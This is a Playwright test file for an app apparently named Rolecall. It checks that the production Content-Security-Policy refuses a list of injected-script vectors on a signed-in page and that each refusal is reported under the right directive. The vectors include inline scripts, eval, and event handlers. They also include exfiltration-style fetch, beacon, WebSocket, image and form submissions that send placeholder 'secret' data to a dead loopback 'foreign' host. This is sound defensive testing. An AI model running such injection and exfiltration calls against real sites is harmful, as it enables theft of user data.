import type { Page } from '@playwright/test';
import { expect, signIn, test } from './fixtures';

// What injected markup or script would try on the signed-in page, run from the page's own
// context: each must be refused by the production Content-Security-Policy (the preview's meta tag,
// build/content-security-policy.ts), seen as a `securitypolicyviolation` naming the directive,
// and its effect must not happen. Playwright's own evaluation is exempt from the policy, so each
// vector only creates the element or calls the API, as injected code would, and the page's
// reaction is read afterwards.

/** A loopback port nothing listens on: no request may leave for it, and none could succeed. */
const FOREIGN = 'http://127.0.0.1:9';

/** What a vector leaves behind for the test to read: did its effect happen? */
type Effect = boolean | string;

interface Vector {
  name: string;
  /** The directive the violation must name (its effectiveDirective). */
  directive: string;
  /** Runs in the page; returns whether the attack's effect happened, once it had its chance. */
  attack: (foreign: string) => Promise<Effect>;
}

const VECTORS: Vector[] = [
  {
    name: 'inline <script>',
    directive: 'script-src-elem',
    attack: async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__attack = "inline script ran"';
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 0));
      return (window as { __attack?: string }).__attack ?? false;
    },
  },
  {
    name: 'inline event handler attribute',
    directive: 'script-src-attr',
    attack: async () => {
      const host = document.createElement('div');
      host.innerHTML = '<button onclick="window.__attack = \'handler ran\'">x</button>';
      document.body.append(host);
      host.querySelector('button')!.click();
      await new Promise((resolve) => setTimeout(resolve, 0));
      return (window as { __attack?: string }).__attack ?? false;
    },
  },
  {
    name: 'eval',
    directive: 'script-src',
    // Later, from a task of the page's own: Playwright's evaluation itself may eval.
    attack: () =>
      new Promise((resolve) =>
        setTimeout(() => {
          try {
            resolve(String(eval('"eval ran"')));
          } catch {
            resolve(false);
          }
        }),
      ),
  },
  {
    name: 'new Function',
    directive: 'script-src',
    attack: () =>
      new Promise((resolve) =>
        setTimeout(() => {
          try {
            // eslint-disable-next-line @typescript-eslint/no-implied-eval
            const made = new Function('return "Function ran"') as () => string;
            resolve(made());
          } catch {
            resolve(false);
          }
        }),
      ),
  },
  {
    name: '<script src> from another origin',
    directive: 'script-src-elem',
    attack: (foreign) =>
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.src = `${foreign}/attack.js`;
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve(false);
        document.body.append(script);
      }),
  },
  {
    name: 'javascript: URL',
    directive: 'script-src-elem',
    attack: async () => {
      const link = document.createElement('a');
      link.href = "javascript:window.__attack='javascript: URL ran'";
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 50));
      return (window as { __attack?: string }).__attack ?? false;
    },
  },
  {
    name: 'inline <style>',
    directive: 'style-src-elem',
    attack: async () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid rgb(255, 0, 0) !important }';
      document.head.append(style);
      await new Promise((resolve) => requestAnimationFrame(resolve));
      return getComputedStyle(document.body).outlineWidth === '7px';
    },
  },
  {
    name: 'style attribute in markup',
    directive: 'style-src-attr',
    attack: async () => {
      const host = document.createElement('div');
      host.innerHTML = '<p style="outline: 7px solid rgb(255, 0, 0)">x</p>';
      document.body.append(host);
      await new Promise((resolve) => requestAnimationFrame(resolve));
      return getComputedStyle(host.querySelector('p')!).outlineWidth === '7px';
    },
  },
  {
    name: '<link rel=stylesheet> from another origin',
    directive: 'style-src-elem',
    attack: (foreign) =>
      new Promise((resolve) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = `${foreign}/attack.css`;
        link.onload = () => resolve('loaded');
        link.onerror = () => resolve(false);
        document.head.append(link);
      }),
  },
  {
    name: '<img> from another origin',
    directive: 'img-src',
    attack: (foreign) =>
      new Promise((resolve) => {
        const image = document.createElement('img');
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve(false);
        image.src = `${foreign}/pixel.png?leak=token`;
        document.body.append(image);
      }),
  },
  {
    name: 'fetch to another origin',
    directive: 'connect-src',
    attack: (foreign) =>
      fetch(`${foreign}/collect`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
        () => 'sent',
        () => false,
      ),
  },
  {
    name: 'navigator.sendBeacon to another origin',
    directive: 'connect-src',
    attack: async (foreign) => {
      navigator.sendBeacon(`${foreign}/beacon`, 'secret');
      await new Promise((resolve) => setTimeout(resolve, 0));
      return false;
    },
  },
  {
    name: 'WebSocket to another origin',
    directive: 'connect-src',
    attack: (foreign) =>
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(`${foreign.replace('http', 'ws')}/socket`);
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve(false);
        } catch {
          resolve(false);
        }
      }),
  },
  {
    name: 'EventSource to another origin',
    directive: 'connect-src',
    attack: (foreign) =>
      new Promise((resolve) => {
        const source = new EventSource(`${foreign}/events`);
        source.onopen = () => resolve('open');
        source.onerror = () => {
          source.close();
          resolve(false);
        };
      }),
  },
  {
    name: '<iframe> of another origin',
    directive: 'frame-src',
    attack: async (foreign) => {
      const frame = document.createElement('iframe');
      frame.src = `${foreign}/frame`;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return false;
    },
  },
  {
    name: '<object> of another origin',
    directive: 'object-src',
    attack: async (foreign) => {
      const object = document.createElement('object');
      object.data = `${foreign}/plugin`;
      document.body.append(object);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return false;
    },
  },
  {
    name: '<base href> to another origin',
    directive: 'base-uri',
    attack: async (foreign) => {
      const base = document.createElement('base');
      base.href = `${foreign}/`;
      document.head.prepend(base);
      await new Promise((resolve) => setTimeout(resolve, 0));
      return document.baseURI.startsWith(foreign) ? document.baseURI : false;
    },
  },
  {
    name: '<form action> to another origin',
    directive: 'form-action',
    attack: async (foreign) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${foreign}/phish`;
      form.innerHTML = '<input name="secret" value="x">';
      document.body.append(form);
      form.requestSubmit();
      await new Promise((resolve) => setTimeout(resolve, 50));
      return false;
    },
  },
  {
    name: 'Worker from a blob: URL',
    directive: 'worker-src',
    attack: (foreign) =>
      new Promise((resolve) => {
        const code = new Blob([`fetch('${foreign}/from-worker'); postMessage('ran')`], {
          type: 'text/javascript',
        });
        try {
          const worker = new Worker(URL.createObjectURL(code));
          worker.onmessage = () => resolve('worker ran');
          worker.onerror = () => resolve(false);
        } catch {
          resolve(false);
        }
      }),
  },
];

interface Violation {
  directive: string;
  blocked: string;
}

/** Starts recording the page's CSP violations; returns a reader of what arrived since the last read. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.evaluate(() => {
    const seen: Violation[] = [];
    (window as { __violations?: Violation[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
  });
  return () =>
    page.evaluate(() => {
      const seen = (window as { __violations?: Violation[] }).__violations!;
      return seen.splice(0, seen.length);
    });
}

test(`the production policy refuses ${VECTORS.length} attacks from the signed-in page`, async ({
  page,
}) => {
  // The browser may announce a request before the policy refuses it: none may get an answer or
  // fail any other way than being blocked.
  const requestsAbroad: string[] = [];
  page.on('requestfinished', (request) => {
    if (request.url().startsWith(FOREIGN)) requestsAbroad.push(`answered: ${request.url()}`);
  });
  page.on('requestfailed', (request) => {
    const why = request.failure()?.errorText;
    if (request.url().startsWith(FOREIGN) && why !== 'csp')
      requestsAbroad.push(`${why}: ${request.url()}`);
  });
  await signIn(page, 'alice');
  const url = page.url();
  const violations = await recordViolations(page);

  for (const vector of VECTORS) {
    await test.step(vector.name, async () => {
      const effect = await page.evaluate(vector.attack, FOREIGN);
      expect(effect, `${vector.name}: its effect did not happen`).toBe(false);
      let seen: Violation[] = [];
      await expect
        .poll(async () => {
          seen = [...seen, ...(await violations())];
          return seen.map((violation) => violation.directive);
        }, `${vector.name}: refused under ${vector.directive}`)
        .toContain(vector.directive);
    });
  }

  expect(requestsAbroad, 'no request left for another origin').toEqual([]);
  // Read from the page: the refused form submission leaves Playwright waiting for a navigation
  // that never comes, so its locators would wait too.
  const state = await page.evaluate(() => ({
    url: location.href,
    header: document.querySelector('header')?.textContent ?? '',
    alerts: [...document.querySelectorAll('[role="alert"]')].map((alert) => alert.textContent),
  }));
  expect(state.url, 'the page was not navigated away').toBe(url);
  expect(state.header, 'still signed in').toContain('Signed in as');
  // Rolecall tells a blocked request to its provider or STS with the fix; one it never made must
  // not get its word, or injected code could have it advise allowing the attacker's origin.
  expect(state.alerts.join('\n'), 'no advice to allow the foreign origin').not.toContain(
    '127.0.0.1:9',
  );
});
